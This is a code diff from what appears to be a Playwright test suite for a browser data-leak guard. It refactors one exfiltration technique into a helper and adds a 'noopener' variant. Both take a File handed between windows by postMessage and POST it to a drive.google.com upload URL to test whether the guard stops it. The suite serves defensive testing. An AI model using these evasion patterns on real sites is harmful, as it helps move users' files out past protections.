@@ -213,27 +213,30 @@ const rows: Technique[] = [
         const origin = at.origin;
         at.hostname = 'intranet.example.org';
         await home.goto(at.href);
-        const dest = `https://drive.google.com:${at.port}/upload?ch=h7-opener-allowed`;
-        await home.evaluate((dest) => {
-          addEventListener('message', (e) => {
-            const d = e.data as { file?: File };
-            if (!d?.file) return;
-            const fd = new FormData();
-            fd.append('file', d.file, d.file.name);
-            void fetch(dest, { method: 'POST', body: fd });
-          });
-        }, dest);
-        const popupP = home.waitForEvent('popup');
-        await home.evaluate((u) => void open(u, 'h7guarded'), `${origin}/techniques`);
-        const popup = await popupP;
-        await popup.waitForLoadState('load');
-        await popup.waitForTimeout(800);
-        await popup.evaluate((pp) => {
-          const w = window as unknown as { t: { file(p: unknown): File } };
-          window.opener.postMessage({ file: w.t.file(pp) }, '*');
-        }, PAGE_PAYLOAD(p));
-        await popup.waitForTimeout(p.marked ? 1500 : 3000);
-        await popup.close();
+        await handBack(home, origin, 'h7-opener-allowed', p);
+      } finally {
+        await home.close();
+      }
+    },
+  },
+  {
+    // The opener was itself opened by the guarded page, without an opener (a link's default `_blank`):
+    // linked at the start, so it got the guard, which asked while nothing paired it and stood aside. The
+    // guard then found running in it must ask again once the popup pairs the two (web15: arrived on both
+    // guarded hosts before, every run).
+    id: 'h7-opener-allowed-noopener',
+    title: 'the guarded page opens a page on the allowed host without an opener (noopener); that page opens the guarded page as a popup, which hands the File back by opener.postMessage, and the page uploads it to drive.google.com',
+    carries: ['file'],
+    drive: async (page: Page, p: Payload) => {
+      const at = new URL(page.url());
+      const origin = at.origin;
+      at.hostname = 'intranet.example.org';
+      const homeP = page.context().waitForEvent('page');
+      await page.evaluate((u) => void open(u, '_blank', 'noopener'), at.href);
+      const home = await homeP;
+      try {
+        await home.waitForLoadState('load');
+        await handBack(home, origin, 'h7-opener-allowed-noopener', p);
       } finally {
         await home.close();
       }
@@ -524,6 +527,34 @@ async function editContextCleared(nonce: string): Promise<void> {
   el?.editContext?.updateText(0, el.editContext.text.length, '');
   await new Promise((r) => setTimeout(r, 600));
   el?.remove();
+}
+
+/**
+ * `home` (a page on the allowed host) uploads to drive.google.com whatever File its popup hands it;
+ * the popup is the suite's page on `origin`, which posts it the payload's File once loaded.
+ */
+async function handBack(home: Page, origin: string, ch: string, p: Payload): Promise<void> {
+  const dest = `https://drive.google.com:${new URL(origin).port}/upload?ch=${ch}`;
+  await home.evaluate((dest) => {
+    addEventListener('message', (e) => {
+      const d = e.data as { file?: File };
+      if (!d?.file) return;
+      const fd = new FormData();
+      fd.append('file', d.file, d.file.name);
+      void fetch(dest, { method: 'POST', body: fd });
+    });
+  }, dest);
+  const popupP = home.waitForEvent('popup');
+  await home.evaluate((u) => void open(u, 'h7guarded'), `${origin}/techniques`);
+  const popup = await popupP;
+  await popup.waitForLoadState('load');
+  await popup.waitForTimeout(800);
+  await popup.evaluate((pp) => {
+    const w = window as unknown as { t: { file(p: unknown): File } };
+    window.opener.postMessage({ file: w.t.file(pp) }, '*');
+  }, PAGE_PAYLOAD(p));
+  await popup.waitForTimeout(p.marked ? 1500 : 3000);
+  await popup.close();
 }
 
 const PAGE_PAYLOAD = (p: Payload) => ({ kind: p.kind, name: p.name, type: p.type, b64: p.b64, text: p.text, nonce: p.nonce });
